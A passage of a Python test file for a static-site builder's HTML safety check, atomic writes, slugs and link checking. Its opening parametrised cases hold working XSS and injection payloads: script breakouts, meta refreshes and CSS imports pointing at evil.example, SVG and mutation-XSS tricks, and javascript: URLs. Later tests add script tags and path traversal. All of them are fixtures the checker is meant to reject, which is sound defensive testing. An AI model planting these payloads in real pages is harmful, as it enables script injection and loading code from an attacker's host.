    ("</article><script>__md_scope=0;alert(1)</script>", "", "t", "inline <script> outside the content"),
    ("", "", "</title><script>__md_scope=1;alert(1)</script>", "inline <script> outside the content"),
    ("<div></article><meta http-equiv=refresh content='0;url=https://evil.example/'>", "", "t",
     "<meta> element in the body outside the content"),
    ("</article><style>@import url(https://evil.example/x.css)</style>", "", "t",
     "inline <style> outside the content that the theme did not write"),
    # An SVG <script> runs the code its href names, and only its own text, not its children's.
    ('</article><svg><script href="https://evil.example/x.js">__md_scope=new URL("..",location)</script></svg>',
     "", "t", "loads code from another host"),
    ('</article><svg><script><g>__md_scope=new URL("..",location)</g></script></svg>', "", "t",
     "<script> with elements inside"),
    # A browser reads "\\" as "/": this loads from evil.example.
    ('</article><script src="\\\\evil.example/../assets/javascripts/bundle.js"></script>', "", "t",
     "loads code from another host"),
    ("", "<svg><a><animate attributeName=href values='#;javascript:alert(1)' /></a></svg>", "t", "dangerous URL"),
    # An HTML <script> ignores href and an SVG one src: each runs its own text then.
    ('</article><script href="x">alert(1)</script>', "", "t", "inline <script> outside the content"),
    ('</article><svg><script src="x">alert(1)</script></svg>', "", "t", "inline <script> outside the content"),
    # Material reads its settings from the first #__config: a second one earlier takes over.
    ("", "", '</title><script id="__config" type="application/json">{"base": "https://evil.example/"}</script>',
     "inline <script> outside the content"),
    ("", "", "</title><link rel=preload as=image href=/x.png imagesrcset='https://evil.example/a.png 1x'>",
     "loads from another host"),
    ("", "<div style='background:url(https://evil.example/x.png)'>x</div>", "t", "with a CSS function"),
    ("", "<div style='background:u\\72l(\\2f\\2f evil.example/x.png)'>x</div>", "t", "with a CSS function"),
    # Browsers with the older <select> rules ignore <xmp> or <title> there, so "</select>"
    # ends the select and the <img> is markup; today's rules read it all as text.
    ("<select><xmp></select><img src=x onerror=alert(1)></xmp></select>", "", "t", "<xmp> element"),
    ("<select><title></select><img src=x onerror=alert(1)></title></select>", "", "t", "<title> element"),
    ("", "<select><noembed></select><img src=x onerror=alert(1)></noembed></select>", "t", "<noembed> element"),
    # A title printed raw can put elements into <head>, where the theme's own would be.
    ("", "", "</title><meta http-equiv=refresh content='0;url=https://evil.example/'>", "<meta http-equiv=refresh>"),
    ("", "", "</title><link rel=stylesheet href=https://evil.example/x.css>", "loads from another host"),
    ("", "", "</title><style>@import url(https://evil.example/x.css)</style>", "inline <style> outside the content"),
    # A browser reads <noscript> as raw text up to "</noscript>", wherever that is.
    ("", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "t", "<noscript> element"),
    ("", "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>", "t",
     "dangerous URL outside the content"),
    ("", "", "</title><script>alert(1)</script>", "inline <script> outside the content"),
    ("", "", "<b>bold</b>", "markup in <title>"),
])
def test_check_on_hand_made_pages(content: str, header: str, title: str, expected: str | None) -> None:
    theme = check.theme_scripts(THEME_PAGE.format(content="", header="", title="404"))  # as check_site does
    scan = check.scan_page(THEME_PAGE.format(content=content, header=header, title=title), theme)
    if expected is None:
        assert scan.unsafe == []
    else:
        assert any(expected in u for u in scan.unsafe), scan.unsafe


@pytest.mark.parametrize("search", ["material", "pagefind"])
def test_doctored_docs_page_fails_the_build_and_keeps_the_old_site(tmp_path: Path, search: str) -> None:
    """A page placed in docs/ by hand bypasses the escaping: the check must stop it (with
    Pagefind, the pages are checked while they are indexed)."""
    seeds, docs, site = tmp_path / "seeds", tmp_path / "docs", tmp_path / "site"
    _corpus(seeds, 2, [])
    first = run_build_site("--search", search, seeds=seeds, docs=docs, site=site)
    assert first.returncode == 0, first.output
    before = _tree(site)
    (docs / "articles" / "doctored.md").write_text(
        "---\ntitle: Doctored\n---\n\nText <script>window.__pwned=1</script> "
        "<img src=x onerror=alert(1)> [x](javascript:alert(1))\n", encoding="utf-8")
    run = run_build_site("--search", search, seeds=seeds, docs=docs, site=site)
    assert run.returncode == 2, run.output
    assert "articles/doctored/index.html: <script> element in article content" in run.stderr
    assert "post-build check failed" in run.stderr and "site NOT built" in run.stdout
    assert _tree(site) == before  # the previous site, byte for byte
    # No staging folder or record left behind; the record of the previous site stays beside it
    # (and the lock file runs take, which holds nothing).
    assert {p.name for p in tmp_path.glob(".*site*")} <= {".site.pages.json", ".site.pagefind.json", ".site.check.json",
                                                          ".site.lock"}
    assert (docs / "articles" / "doctored.md").exists()  # a user file: never deleted


def test_markup_closing_the_article_fails_the_build(tmp_path: Path) -> None:
    """A script after an early </article> lands among the theme's elements; beginning as
    Material's own scripts do does not make it one of them (the real 404 page decides)."""
    seeds, docs, site = tmp_path / "seeds", tmp_path / "docs", tmp_path / "site"
    _corpus(seeds, 2, [])
    assert run_build_site("--no-cache", seeds=seeds, docs=docs, site=site, command="convert").returncode == 0
    (docs / "articles" / "doctored.md").write_text(
        "---\ntitle: Doctored\n---\n\n<div></article><script>__md_scope=0;window.__pwned=1</script>\n",
        encoding="utf-8")
    run = run_build_site(seeds=seeds, docs=docs, site=site)
    assert run.returncode == 2, run.output
    assert "articles/doctored/index.html: inline <script> outside the content that the theme did not write" \
        in run.stderr, run.stderr
    assert not site.exists()


def test_unreadable_page_fails_the_check(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<html><body><p>x</p></body></html>", encoding="utf-8")
    (site / "gone.html").symlink_to(tmp_path / "nowhere.html")
    report = check.check_site(site, "/")
    assert report.broken == ["gone.html: cannot be read (No such file or directory)"], report.broken


def test_failed_mkdocs_build_keeps_the_old_site(tmp_path: Path) -> None:
    seeds, docs, site = tmp_path / "seeds", tmp_path / "docs", tmp_path / "site"
    _corpus(seeds, 2, [])
    assert run_build_site(seeds=seeds, docs=docs, site=site).returncode == 0
    before = _tree(site)
    (docs / "notes.md").write_text("# Notes\n\nSee [missing](nowhere.md).\n", encoding="utf-8")
    run = run_build_site(seeds=seeds, docs=docs, site=site)
    assert run.returncode == 2 and "mkdocs build --strict failed" in run.stderr, run.output
    assert _tree(site) == before
    assert (docs / "notes.md").read_text(encoding="utf-8").startswith("# Notes")


# --- row 39 and nothing lost -----------------------------------------------------------


def _tree(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def test_size_limit_applies_to_cached_seeds(tmp_path: Path) -> None:
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copyfile(FIXTURES / "script_tag.txt", seeds / "script_tag.txt")
    cache = tmp_path / "cache"
    assert run_build_site("--cache", str(cache), seeds=seeds, docs=tmp_path / "d1", command="convert").returncode == 0
    run = run_build_site("--cache", str(cache), "--max-size", "0.0001", seeds=seeds, docs=tmp_path / "d2",
                         command="convert")
    assert run.returncode == 2 and "too large" in run.stderr, run.output


def _comparable(root: Path) -> dict[str, str]:
    """The tree's bytes, minus assets copied from the package (other engineers edit them
    in this working tree while tests run, which is not converter nondeterminism)."""
    tree = {k: v for k, v in _tree(root).items() if not k.startswith("assets/")}
    manifest = json.loads((root / write.MANIFEST).read_text(encoding="utf-8"))
    manifest["files"] = {k: v for k, v in manifest["files"].items() if not k.startswith("assets/")}
    tree[write.MANIFEST] = json.dumps(manifest, sort_keys=True)
    return tree


def test_two_runs_give_byte_identical_docs(tmp_path: Path) -> None:
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    for name in ("script_tag.txt", "cp1252_smart_quotes.txt", "yaml_hostile_title.txt", "title_html.txt",
                 "nfc_title.txt", "nfd_title.txt", "metadata.yml"):
        shutil.copyfile(FIXTURES / name, seeds / name)
    a = run_build_site(seeds=seeds, docs=tmp_path / "a", command="convert")
    b = run_build_site(seeds=seeds, docs=tmp_path / "b", command="convert")
    # (1: the fixtures' metadata.yml has entries for fixtures not copied here, unused)
    assert a.returncode == b.returncode == 1, a.output
    tree_a = _comparable(tmp_path / "a")
    assert tree_a == _comparable(tmp_path / "b")
    again = run_build_site(seeds=seeds, docs=tmp_path / "a", command="convert")
    assert again.returncode == 1 and _comparable(tmp_path / "a") == tree_a
    assert ", 0 removed" in again.stdout


def test_user_files_kept_and_stale_pages_removed(tmp_path: Path) -> None:
    seeds, docs = tmp_path / "seeds", tmp_path / "docs"
    _corpus(seeds, 3, [])
    docs.mkdir()
    (docs / "notes.md").write_text("# My notes\n", encoding="utf-8")
    (docs / "index.md").write_text("# My own home page\n", encoding="utf-8")
    (docs / "articles").mkdir()
    mine = docs / "articles" / "good-article-number-1-about-microsoft-and-the-beijing-lab.md"
    mine.write_text("# Hand-written, same path as a generated page\n", encoding="utf-8")
    run = run_build_site(seeds=seeds, docs=docs, command="convert")
    assert run.returncode == 0, run.output
    assert (docs / "notes.md").read_text(encoding="utf-8") == "# My notes\n"
    assert (docs / "index.md").read_text(encoding="utf-8") == "# My own home page\n"
    assert mine.read_text(encoding="utf-8") == "# Hand-written, same path as a generated page\n"
    assert "was not generated by build_site.py" in run.stderr
    gone = docs / "articles" / "good-article-number-2-about-microsoft-and-the-beijing-lab.md"
    assert gone.exists()
    (seeds / "good_02.txt").unlink()
    run = run_build_site(seeds=seeds, docs=docs, command="convert")
    assert run.returncode == 0 and not gone.exists()
    assert (docs / "notes.md").exists() and mine.exists() and (docs / "index.md").exists()


def test_interrupted_write_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "old\n")
    tree.finish()
    tree = write.OutputTree(tmp_path)

    def fail(*args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(write.os, "replace", fail)
    tree.write("articles/a.md", "new\n")
    with pytest.raises(OSError):
        tree.finish()
    assert (tmp_path / "articles" / "a.md").read_text() == "old\n"
    assert [p.name for p in (tmp_path / "articles").iterdir()] == ["a.md"]  # no temp file left


def test_a_rename_failing_midway_leaves_a_manifest_that_knows_the_replaced_files(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "old a\n")
    tree.write("articles/b.md", "old b\n")
    tree.finish({"search": "material"})
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "new a\n")
    tree.write("articles/b.md", "new b\n")
    real_replace, calls = os.replace, []

    def replace_once(src: str, dst: str) -> None:
        calls.append(dst)
        if len(calls) == 2:
            raise OSError("disk full")
        real_replace(src, dst)

    monkeypatch.setattr(write.os, "replace", replace_once)
    with pytest.raises(OSError):
        tree.finish({"search": "material"})
    monkeypatch.setattr(write.os, "replace", real_replace)
    assert (tmp_path / "articles" / "a.md").read_text() == "new a\n"  # replaced before the failure
    assert (tmp_path / "articles" / "b.md").read_text() == "old b\n"
    assert sorted(p.name for p in (tmp_path / "articles").iterdir()) == ["a.md", "b.md"]
    assert write.manifest_setting(tmp_path, "search") == "material"
    # The next run sees both files as its own, not as hand edits.
    tree = write.OutputTree(tmp_path)
    assert tree.write("articles/a.md", "newer a\n") and tree.write("articles/b.md", "new b\n")
    tree.finish()
    assert tree.skipped == []
    assert (tmp_path / "articles" / "a.md").read_text() == "newer a\n"


def test_an_interrupt_while_stale_files_go_leaves_a_manifest_that_knows_this_runs_files(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C after this run's pages are renamed into place, while a removed seed's page is
    deleted: the next run must not take this run's pages for hand edits."""
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "old a\n")
    tree.write("articles/b.md", "b\n")
    tree.finish()
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "new a\n")
    tree.write("articles/c.md", "c\n")  # b.md is stale

    def interrupt(*args: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(write, "_prune_empty_dirs", interrupt)
    with pytest.raises(KeyboardInterrupt):
        tree.finish()
    monkeypatch.undo()
    tree = write.OutputTree(tmp_path)
    assert tree.write("articles/a.md", "new a\n") and tree.write("articles/c.md", "c\n")
    tree.finish()
    assert tree.skipped == []
    assert sorted(p.name for p in (tmp_path / "articles").iterdir()) == ["a.md", "c.md"]


def test_a_temporary_file_an_interrupt_leaves_is_removed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C right after mkstemp made a staging file, before the tree knew it: discard()
    removes it, and finish() removes one a killed run left; a hidden file of the user's
    that only looks like one is kept."""
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "a\n")
    tree.finish()
    tree = write.OutputTree(tmp_path)
    real_mkstemp = write.tempfile.mkstemp

    def mkstemp_then_interrupt(*args: object, **kwargs: object) -> tuple[int, str]:
        fd, _ = real_mkstemp(*args, **kwargs)  # type: ignore[call-overload]
        os.close(fd)
        raise KeyboardInterrupt

    monkeypatch.setattr(write.tempfile, "mkstemp", mkstemp_then_interrupt)
    with pytest.raises(KeyboardInterrupt):
        tree.write("articles/a.md", "new a\n")
    monkeypatch.undo()
    tree.discard()
    assert [p.name for p in (tmp_path / "articles").iterdir()] == ["a.md"]

    (tmp_path / "articles" / ".a.md.k2x_9q0z.tmp").write_text("left by a killed run")
    (tmp_path / "..briefing-manifest.json.k2x_9q0z.tmp").write_text("left by a killed run")
    (tmp_path / "articles" / ".mine.md.k2x_9q0z.tmp").write_text("the user's")
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "a\n")
    tree.finish()
    assert sorted(p.name for p in (tmp_path / "articles").iterdir()) == [".mine.md.k2x_9q0z.tmp", "a.md"]
    assert not (tmp_path / "..briefing-manifest.json.k2x_9q0z.tmp").exists()


def test_a_deleted_hand_edited_listing_page_is_generated_again(tmp_path: Path) -> None:
    """A listing page edited by hand is left as it is, but stays one of the pages made
    together: deleting it makes the next run generate it again."""
    tree = write.OutputTree(tmp_path)
    tree.write("index.md", "home 1\n", inputs="k1")
    tree.write("timeline.md", "timeline 1\n", inputs="k1")
    tree.finish()
    (tmp_path / "timeline.md").write_text("my edit\n")
    tree = write.OutputTree(tmp_path)
    assert not tree.keep_all("k2")
    tree.write("index.md", "home 2\n", inputs="k2")
    assert not tree.write("timeline.md", "timeline 2\n", inputs="k2")  # edited: left as it is
    tree.finish()
    assert (tmp_path / "timeline.md").read_text() == "my edit\n"
    tree = write.OutputTree(tmp_path)
    assert tree.keep_all("k2")  # unchanged inputs: the edit stays, and stays generated
    tree.finish()
    (tmp_path / "timeline.md").unlink()
    tree = write.OutputTree(tmp_path)
    assert not tree.keep_all("k2")  # one of the group is gone: all are made again
    tree.write("index.md", "home 2\n", inputs="k2")
    assert tree.write("timeline.md", "timeline 2\n", inputs="k2")
    tree.finish()
    assert (tmp_path / "timeline.md").read_text() == "timeline 2\n"


def test_a_name_kept_for_a_hand_edited_page_goes_to_the_next_seed_as_name_2(tmp_path: Path) -> None:
    """Seed 0's page, edited by hand, keeps its name after seed 0's title changes; seed 1,
    whose new title gives that name, gets the next one, and a page."""
    seeds, docs = tmp_path / "seeds", tmp_path / "docs"
    _corpus(seeds, 2, [])
    assert run_build_site(seeds=seeds, docs=docs, command="convert").returncode == 0
    page = docs / "articles" / "good-article-number-0-about-microsoft-and-the-beijing-lab.md"
    page.write_text(page.read_text(encoding="utf-8") + "\nMy note.\n", encoding="utf-8")
    (seeds / "metadata.yml").write_text(
        "good_00.txt:\n  title: Another title\n"
        "good_01.txt:\n  title: Good article number 0 about Microsoft and the Beijing lab\n", encoding="utf-8")
    run = run_build_site(seeds=seeds, docs=docs, command="convert")
    assert run.returncode == 0, run.output
    assert page.read_text(encoding="utf-8").endswith("My note.\n")
    owners = {post["source_file"]: p.name for p in (docs / "articles").glob("*.md")
              if "moved_to" not in (post := frontmatter.load(p))}  # (not seed 1's old address, which links on)
    assert owners["good_01.txt"] == "good-article-number-0-about-microsoft-and-the-beijing-lab-2.md"
    assert frontmatter.load(docs / "articles" / "another-title.md")["source_file"] == "good_00.txt"


def test_files_reach_docs_together_when_the_run_finishes(tmp_path: Path) -> None:
    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "old a\n")
    tree.write("articles/b.md", "old b\n")
    tree.finish()
    before = {p.name: p.read_text() for p in (tmp_path / "articles").iterdir()}

    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "new a\n")
    tree.write("articles/c.md", "new c\n")
    assert {p.name: p.read_text() for p in (tmp_path / "articles").iterdir() if not p.name.startswith(".")} == before
    tree.discard()  # what write_docs does when a later page fails
    assert {p.name: p.read_text() for p in (tmp_path / "articles").iterdir()} == before

    tree = write.OutputTree(tmp_path)
    tree.write("articles/a.md", "new a\n")
    tree.write("articles/b.md", "old b\n")
    tree.finish()
    assert {p.name: p.read_text() for p in (tmp_path / "articles").iterdir()} == {"a.md": "new a\n", "b.md": "old b\n"}


def test_a_failing_page_leaves_docs_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seeds, docs = tmp_path / "seeds", tmp_path / "docs"
    _corpus(seeds, 3, [])
    assert run_build_site(seeds=seeds, docs=docs, command="convert").returncode == 0
    before = _comparable(docs)
    (seeds / "good_01.txt").write_text((seeds / "good_01.txt").read_text(encoding="utf-8") + "\nOne more line.\n",
                                       encoding="utf-8")

    def fail(*args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(pipeline, "generated_pages", fail)  # after the article pages were staged
    with pytest.raises(OSError):
        pipeline.convert(pipeline.Options(seeds=seeds, docs=docs, config=REPO / "mkdocs.yml", jobs=1))
    assert _comparable(docs) == before
    assert not [p for p in docs.rglob(".*.tmp")]


@pytest.mark.parametrize("syncfs", [True, False], ids=["syncfs", "fsync each"])
def test_staged_files_are_made_durable_before_the_rename(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                         syncfs: bool) -> None:
    events: list[str] = []
    real_fsync, real_replace = os.fsync, os.replace
    monkeypatch.setattr(write.os, "fsync", lambda fd: (events.append("fsync"), real_fsync(fd))[1])
    monkeypatch.setattr(write.os, "replace", lambda a, b: (events.append("replace"), real_replace(a, b))[1])
    if syncfs:
        real = write._syncfs()
        if real is None:
            pytest.skip("no syncfs(2) on this platform")
        monkeypatch.setattr(write, "_syncfs", lambda: lambda fd: (events.append("syncfs"), real(fd))[1])
    else:
        monkeypatch.setattr(write, "_syncfs", lambda: None)
    tree = write.OutputTree(tmp_path)
    for i in range(3):
        tree.write(f"articles/{i}.md", f"page {i}\n")
    assert events == []
    tree.finish()
    staged = events[:events.index("replace")]
    assert staged == (["syncfs"] if syncfs else ["fsync"] * 3)
    assert events.count("replace") == 4  # three pages, then the manifest (written alone, fsynced)
    assert sorted(p.name for p in (tmp_path / "articles").iterdir()) == ["0.md", "1.md", "2.md"]


def test_output_tree_refuses_paths_outside_docs(tmp_path: Path) -> None:
    tree = write.OutputTree(tmp_path / "docs")
    for rel in ("../evil.md", "/etc/evil.md", "articles/../../evil.md"):
        with pytest.raises(write.WriteError):
            tree.write(rel, "x")
    tree.write("a.md", "x")
    with pytest.raises(write.WriteError):
        tree.write("a.md", "y")  # two outputs for one path


def test_slugify_is_safe() -> None:
    for text in ["..", "a/b\\c", "<script>", "\u202eevil", "CON", "", "\u200b"]:
        assert re.fullmatch(r"[a-z0-9-]*", slugify(text)), text


@pytest.mark.parametrize("title,slug", [
    # Dropping the letters left "10-14" for this Russian headline (a real page of the bench).
    ("Диета Аткинса - потеря веса до 10 килограмм за 14 дней", "dieta-atkinsa-poterya-vesa-do-10-kilogramm-za-14-dney"),
    ("Щёлково: Юрий и ЁЛКА", "shchelkovo-yuriy-i-elka"),  # composed letters, capitals
    ("Київ і Україна", "kiyiv-i-ukrayina"),
    ("Ђорђе Јовановић", "djordje-jovanovic"),
    ("Ελλάδα: Η κρίση χρέους", "ellada-i-krisi-chreoys"),  # accents come off
    ("Microsoft’s café in Zürich", "microsofts-cafe-in-zurich"),  # Latin as before
    ("Łódź, Øresund, Straße, Đorđe", "lodz-oresund-strasse-dorde"),  # letters with no decomposition ("odz" before)
    ("엘제이의 리벤지인가", ""),  # no romanisation: the caller falls back to the file name
])
def test_slugs_romanise_cyrillic_and_greek(title: str, slug: str) -> None:
    assert slugify(title) == slug


@pytest.mark.parametrize("text,words", [
    ("The council approved the budget.", 5),
    ("市議会は2日、新年度の予算案を可決した。", 18),  # each character a word, and "2"; no punctuation
    ("Microsoft (微软) opened a lab", 6),
    ("시의회가 새 예산안을 통과시켰다", 4),  # Korean has spaces between its words
])
def test_word_count_counts_chinese_and_japanese_characters(text: str, words: int) -> None:
    """A Japanese article of 300 characters is not "8 words" long (its spaces are few)."""
    from briefing.model import Article, Block

    assert Article(source_file="a.txt", blocks=[Block("paragraph", text), Block("caption", text)]).word_count == words


@pytest.mark.parametrize("title,slug", [
    ("動画：港町で豪雨、31人が避難", "harbor-flood-2021"),  # the slug would keep only "31"
    ("ผล DNA ยืนยัน ศพลอยแม่น้ำโขง", "harbor-flood-2021"),  # ... only "dna"
    ("Huawei (华为) reports record sales in 2021", "huawei-reports-record-sales-in-2021"),  # mostly Latin
    ("Диета Аткинса", "dieta-atkinsa"),  # romanised
    # (a long English title, its slug cut to 80 characters: it had spelled under half the whole title's letters,
    # and a first-time user's medRxiv preprint and Lilly release were named after their files)
    ("Cardiovascular and kidney outcomes of once-weekly semaglutide in adults with overweight or obesity and "
     "established cardiovascular disease: a secondary analysis",
     "cardiovascular-and-kidney-outcomes-of-once-weekly-semaglutide-in-adults-with"),
])
def test_a_title_in_a_script_without_a_latin_spelling_names_the_page_after_its_file(title: str, slug: str) -> None:
    from briefing.enrich import base_slug
    from briefing.model import Article

    assert base_slug(Article(source_file="harbor_flood_2021.txt", title=title)) == slug


@pytest.mark.parametrize("fixture,message", [
    ("topics_colliding_tags.yml", "would share the tag anchor 'tag:c'"),
    ("topics_case_duplicates.yml", "repeats 'AI' (tags ignore case)"),
])
def test_colliding_topic_tags_are_reported_not_built(fixture: str, message: str, tmp_path: Path) -> None:
    """Row 31: tags that Material would merge or give one anchor stop the run with a clear error."""
    run = run_build_site("--topics", str(FIXTURES / fixture), docs=tmp_path / "docs", command="convert")
    assert run.returncode == 2, run.output
    assert fixture in run.stderr and message in run.stderr, run.stderr


def test_check_finds_broken_internal_links_and_anchors(tmp_path: Path) -> None:
    """The link check on a hand-made site: each kind of broken link is reported once, and
    the links that resolve (folder with index.html, file, same-page and other-page anchors,
    absolute under the base path) are not."""
    site = tmp_path / "site"
    (site / "a").mkdir(parents=True)
    (site / "empty").mkdir()
    (site / "feed.xml").write_text("<rss/>", encoding="utf-8")
    (site / "a" / "index.html").write_text('<html><body><p id="p-1">x</p></body></html>', encoding="utf-8")
    links = {
        "a/": None, "a/#p-1": None, "feed.xml": None, "#top": None, "/base/a/": None, "a/index.html": None,
        "https://example.org/x": None,
        "missing/": "missing/index.html does not exist",
        "empty/": "empty/index.html does not exist",
        "a/#p-2": "no element with id 'p-2' in a/index.html",
        "#nowhere": "no element with id 'nowhere' in index.html",
        "../../outside.html": "leaves the site",
        "/elsewhere/a/": "outside the site's base path /base/",
        "/base/a/../../outside.html": "leaves the site",  # (that file exists, beside the site)
        ".well-known/": None,  # a folder whose name starts with a dot
    }
    (site / ".well-known").mkdir()
    (site / ".well-known" / "index.html").write_text("<html></html>", encoding="utf-8")
    (tmp_path / "outside.html").write_text("<html></html>", encoding="utf-8")
    body = "".join(f'<a href="{href}">l</a>' for href in links)
    (site / "index.html").write_text(f'<html><body><h1 id="top">t</h1>{body}</body></html>', encoding="utf-8")
    report = check.check_site(site, "/base/")
    for href, problem in links.items():
        found = [b for b in report.broken if f"link {href!r}" in b]
        if problem is None:
            assert found == [], found
        else:
            assert len(found) == 1 and problem in found[0], (href, report.broken)
    assert len(report.broken) == sum(p is not None for p in links.values())


def _checked_site(root: Path) -> Path:
    """Three pages: a home linking to two articles (one of them at an anchor), each a theme page."""
    site = root / "site"
    theme_page = THEME_PAGE.replace('<script src="../assets/javascripts/bundle.js"></script>', "")
    for slug, content in (("a", '<p id="p-1">first</p>'), ("b", '<p id="p-1">second</p><a href="../a/#p-1">a</a>')):
        (site / slug).mkdir(parents=True)
        (site / slug / "index.html").write_text(theme_page.format(content=content, header="", title=slug), "utf-8")
    home = '<a href="a/">a</a> <a href="b/#p-1">b</a>'
    (site / "index.html").write_text(theme_page.format(content=home, header="", title="home"), "utf-8")
    return site


def test_the_check_takes_unchanged_pages_from_its_record_and_still_resolves_their_links(tmp_path: Path) -> None:
    site = _checked_site(tmp_path)
    record = tmp_path / "check.json"
    first = check.check_site(site, "/", record=record)
    assert first.ok and first.pages == 3 and first.pages_unchanged == 0 and record.is_file()
    again = check.check_site(site, "/", previous=record, record=tmp_path / "check2.json")
    assert again.ok and again.pages_unchanged == 3 and again.links_checked == first.links_checked
    # The target of an unchanged page's link is gone: the page is not parsed, the link is broken.
    shutil.rmtree(site / "a")
    broken = check.check_site(site, "/", previous=record, record=tmp_path / "check3.json")
    assert broken.pages_unchanged == 2
    assert sorted(broken.broken) == ["b/index.html: link '../a/#p-1': a/index.html does not exist",
                                     "index.html: link 'a/': a/index.html does not exist"]
    assert not (tmp_path / "check3.json").exists()  # a failed check leaves no record to trust


def test_the_check_parses_a_page_again_when_its_file_changed(tmp_path: Path) -> None:
    site = _checked_site(tmp_path)
    record = tmp_path / "check.json"
    assert check.check_site(site, "/", record=record).ok
    page = site / "b" / "index.html"
    injected = page.read_text("utf-8").replace('<p id="p-1">second</p>', "<p>second</p><script>alert(1)</script>")
    page.write_text(injected, "utf-8")
    report = check.check_site(site, "/", previous=record)
    assert report.pages_unchanged == 2
    assert any("b/index.html" in u and "<script> element" in u for u in report.unsafe), report.unsafe
    # ... and the ids it lost: the home page (unchanged, not parsed) links to one of them.
    assert report.broken == ["index.html: link 'b/#p-1': no element with id 'p-1' in b/index.html"]


def test_the_check_record_counts_only_for_the_same_check(tmp_path: Path) -> None:
    site = _checked_site(tmp_path)
    record = tmp_path / "check.json"
    assert check.check_site(site, "/", record=record).ok
    assert check.check_site(site, "/base/", previous=record).pages_unchanged == 0  # another base path
    not_found = THEME_PAGE.replace('<script src="../assets/javascripts/bundle.js"></script>', "").format(
        content="", header="", title="404")
    (site / "404.html").write_text(not_found, "utf-8")  # the theme's scripts, learnt anew
    assert check.check_site(site, "/", previous=record).pages_unchanged == 0
    record.write_text("{not json", "utf-8")
    assert check.check_site(site, "/", previous=record).ok
